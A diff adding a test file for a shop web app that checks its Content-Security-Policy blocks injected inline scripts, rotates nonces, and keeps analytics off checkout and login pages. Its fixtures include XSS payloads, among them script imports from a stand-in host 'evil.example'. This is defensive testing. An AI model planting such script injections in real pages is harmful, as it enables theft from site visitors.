@@ -1,0 +1,155 @@
+import { createHash } from 'node:crypto'
+import { Hono } from 'hono'
+import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import type { ProductId } from '#store/ids.ts'
+import { insertProduct } from '#test/factories.ts'
+import { createHarness, type Harness } from '#test/harness.ts'
+import type { Env } from '../dependencies.ts'
+import { createRenderCache } from '../page-cache/render-cache.ts'
+import { createPageHandler } from './page-handler.ts'
+import { createBuiltPages, type PageSource } from './page-source.ts'
+
+const publicUrl = 'http://localhost:3000'
+const injected = [
+  '<script>steal(1)</script>',
+  '<script type="module" async="">import "//evil.example/steal.js"</script>',
+  '<link rel="modulepreload" href="//evil.example/steal.js"/>',
+  '<script nonce="">steal(2)</script>',
+  `<script nonce="${'A'.repeat(22)}">steal(3)</script>`,
+]
+const marker = 'corduroy-coat-marker'
+
+/** Renders the marker unescaped, as a page with a bug would render a product's title. */
+function injectInto({ load, ...source }: PageSource): PageSource {
+  return {
+    ...source,
+    async load() {
+      const modules = await load()
+      const render = modules.build.entry.module.default
+      const module = {
+        ...modules.build.entry.module,
+        default: async (...parameters: Parameters<typeof render>) => {
+          const page = await render(...parameters)
+          const html = (await page.text()).replaceAll(`>${marker}<`, () => `>${injected.join('')}<`)
+          return new Response(html, page)
+        },
+      }
+      return { ...modules, build: { ...modules.build, entry: { module } } }
+    },
+  }
+}
+
+interface Page {
+  html: string
+  policy: string
+}
+
+let harness: Harness
+let product: ProductId
+let renderPage: (path: string) => Promise<Response>
+beforeEach(async () => {
+  harness = await createHarness()
+  product = await insertProduct(harness.db, { title: marker })
+  const handlePage = createPageHandler(harness.dependencies, injectInto(await createBuiltPages()))
+  const app = new Hono<Env>().all('*', handlePage)
+  renderPage = async path => app.request(new URL(path, publicUrl))
+})
+afterEach(() => harness.close())
+
+async function getUncached(path: string): Promise<Page> {
+  const response = await renderPage(path)
+  return { html: await response.text(), policy: response.headers.get('content-security-policy') ?? '' }
+}
+
+async function getCached(path: string): Promise<Page> {
+  const cache = createRenderCache({
+    render: request => renderPage(new URL(request.url).pathname),
+    publicUrl,
+    now: () => 0,
+  })
+  const page = await cache.render(path)
+  if (page instanceof Response) throw new Error(`${path} is not cached`)
+  const { body, headers } = page.variants.identity
+  return { html: body.toString(), policy: headers[headers.indexOf('content-security-policy') + 1] ?? '' }
+}
+
+const getSources = (policy: string, directive: string) =>
+  new RegExp(`(?:^|; )${directive} ([^;]*)`).exec(policy)?.[1]?.split(' ') ?? []
+
+/** The executable inline scripts of a page and whether its policy lets a browser run them. */
+function listInlineScripts({ html, policy }: Page): { code: string; isAllowed: boolean }[] {
+  const sources = getSources(policy, 'script-src')
+  return Array.from(html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g))
+    .filter(([, attributes = '']) => !/ src=|ld\+json/.test(attributes))
+    .map(([, attributes = '', code = '']) => {
+      const nonce = / nonce="([^"]+)"/.exec(attributes)?.[1]
+      const hash = createHash('sha256').update(code).digest('base64')
+      return { code, isAllowed: sources.includes(`'nonce-${nonce}'`) || sources.includes(`'sha256-${hash}'`) }
+    })
+}
+
+describe.each([
+  ['an uncached page', getUncached],
+  ['a cached page', getCached],
+])('%s', (_, getPage) => {
+  test.each(['/shop', () => `/product/${product}`])(
+    'runs what the framework emits and no injected script',
+    async path => {
+      const page = await getPage(typeof path === 'string' ? path : path())
+      for (const markup of injected) expect(page.html).toContain(markup)
+      const scripts = listInlineScripts(page)
+      const foreign = scripts.filter(({ code }) => /^(steal|import "\/\/evil)/.test(code))
+      expect(foreign.map(({ isAllowed }) => isAllowed)).toEqual([false, false, false, false])
+      const own = scripts.filter(script => !foreign.includes(script))
+      expect(own.length).toBeGreaterThan(3)
+      for (const { code, isAllowed } of own) {
+        expect(isAllowed).toBe(true)
+        expect(code).not.toContain('evil.example')
+      }
+      expect(getSources(page.policy, 'script-src').join(' ')).not.toMatch(/unsafe|https?:|\*/)
+    },
+  )
+})
+
+test('an uncached page has a new nonce each time, a cached one has none', async () => {
+  const [first, second] = [await getUncached('/cart'), await getUncached('/cart')]
+  const nonces = [first, second].map(({ policy }) => /'nonce-([\w-]{22})'/.exec(policy)?.[1])
+  expect(new Set(nonces).size).toBe(2)
+  const cached = await getCached('/shop')
+  expect(cached.policy).not.toContain('nonce-')
+  expect(cached.html.replaceAll(injected.join(''), '')).not.toContain('nonce')
+})
+
+describe('with an analytics script', () => {
+  beforeEach(async () => {
+    const dependencies = {
+      ...harness.dependencies,
+      store: { ...harness.store, analyticsSrc: 'https://stats.example/script.js' },
+    }
+    const handlePage = createPageHandler(dependencies, await createBuiltPages())
+    const app = new Hono<Env>().all('*', handlePage)
+    renderPage = async path => app.request(new URL(path, publicUrl))
+  })
+
+  test.each(['/', '/shop', '/past-sales', '/saved', '/cart'])('%s loads it', async path => {
+    const { html, policy } = await getUncached(path)
+    expect(getSources(policy, 'script-src')).toContain('https://stats.example')
+    expect(getSources(policy, 'connect-src')).toContain('https://stats.example')
+    expect(html).toContain('https://stats.example/script.js')
+  })
+
+  // Paths are matched without regard to case and with escapes decoded.
+  test.each([
+    '/thankyou?session_id=cs_test_abcdefghij',
+    '/checkout',
+    '/login',
+    '/signup',
+    '/Thankyou/',
+    '/%74hankyou',
+    '/admin/orders',
+    '/no-such-page',
+  ])('%s neither loads it nor allows it', async path => {
+    const response = await renderPage(path)
+    expect(`${await response.text()} ${response.headers.get('content-security-policy')}`).not.toContain('stats.example')
+  })
+})
